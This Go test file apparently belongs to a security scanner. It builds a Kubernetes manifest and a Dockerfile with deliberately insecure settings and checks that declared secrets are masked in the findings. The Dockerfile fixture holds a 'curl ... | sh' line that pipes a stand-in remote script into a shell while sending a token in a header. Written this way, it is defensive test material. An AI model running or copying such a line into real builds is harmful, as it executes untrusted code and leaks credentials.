package scan

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"google.golang.org/protobuf/encoding/protojson"

	vigilv1 "github.com/vigilsec/vigil/pkg/api/vigilv1"
)

// A value a check declares a credential (an environment variable named as
// one, an ENV of a Dockerfile) is masked wherever the scan shows it: in
// the finding about it and in the findings of other checks on the line.
func TestDeclaredSecretsAreMaskedEverywhere(t *testing.T) {
	const env, dockerEnv = "pl41nDbPassw0rd", "9f8e7d6c5b4a39281706"
	dir := t.TempDir()
	files := map[string]string{
		"web.yaml": "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: web}\nspec:\n  template:\n    spec:\n" +
			"      containers: [{name: web, image: 'web:latest', securityContext: {privileged: true}, env: [{name: DB_PASSWORD, value: " + env + "}]}]\n",
		"Dockerfile": "FROM alpine:latest\nENV SERVICE_TOKEN=" + dockerEnv + "\nRUN curl -H 'X: " + dockerEnv + "' https://x.example | sh\n",
	}
	for name, body := range files {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	res, err := scanner(t).Target(context.Background(), dir, "acme")
	if err != nil {
		t.Fatal(err)
	}
	var all []*vigilv1.Finding
	checks := map[string]bool{}
	for _, fs := range res.Findings {
		all = append(all, fs...)
		for _, f := range fs {
			checks[f.CheckId] = true
		}
	}
	for _, id := range []string{"VGL-CLUSTER-022", "VGL-CLUSTER-001", "VGL-CONTAINER-005", "VGL-CONTAINER-006"} {
		if !checks[id] {
			t.Errorf("%s not reported; the test would prove nothing about it", id)
		}
	}
	out, _ := protojson.Marshal(&vigilv1.ScanReport{Findings: all})
	for _, raw := range []string{env, dockerEnv} {
		if strings.Contains(string(out), raw) {
			t.Errorf("%s shown:\n%s", raw, out)
		}
	}
}
